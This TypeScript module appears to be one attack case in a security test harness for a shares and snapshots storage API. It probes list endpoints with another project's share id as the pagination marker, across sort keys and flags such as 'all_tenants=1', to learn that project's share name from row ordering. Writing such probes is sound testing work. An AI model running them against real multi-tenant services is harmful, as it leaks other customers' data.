/** What a list tells by where it goes on. */
import type { Attack } from '../attack.ts'
import type { ApiWorld } from './world.ts'

const letters = 'abcdefghijklmnopqrstuvwxyz-'
const lists = ['/v2/shares', '/v2/shares/detail', '/v2/snapshots', '/v2/snapshots/detail'] as const

/**
 * A list sorted by name that goes on behind another's row tells whether an own name comes before or after that row's. Public
 * shares let the list look beyond the own project.
 */
export const bisection: Attack<ApiWorld> = {
  name: 'markers of others',
  tries:
    "goes on behind another project's share in lists sorted by its name, and reads the name letter by letter",
  async run(world) {
    const { ask, secret, share } = world
    const rungs: string[] = []
    for (const letter of letters) rungs.push(await share('attacker', { name: `${letter}~` }))
    let tried = 0
    const statuses = new Map<number, number>()
    const places = new Set<string>()
    for (const list of lists) {
      for (const more of [
        '',
        '&is_public=true',
        '&is_public=True&all_tenants=1',
        '&with_count=true',
        '&limit=1',
      ]) {
        for (const key of ['display_name', 'name', 'created_at', 'size', 'id', 'project_id', 'host']) {
          for (const direction of ['asc', 'desc']) {
            const query = `marker=${secret.id}&sort_key=${key}&sort_dir=${direction}${more}`
            const { status, json } = await ask(`${list}?${query}`)
            tried++
            statuses.set(status, (statuses.get(status) ?? 0) + 1)
            if (status !== 200) continue
            const rows = (json.shares ?? json.snapshots ?? []) as { id: string }[]
            places.add(`${list} by ${key}: ${rows.length} rows behind it`)
          }
        }
      }
    }
    for (const id of rungs) await ask(`/v2/shares/${id}`, { method: 'DELETE' })
    return {
      through: places.size > 0,
      tried: `${tried} lists`,
      cameBack: [
        [...statuses].map(([status, times]) => `${times} × ${status}`).join(', '),
        ...[...places].slice(0, 3),
      ].join('; '),
    }
  },
}
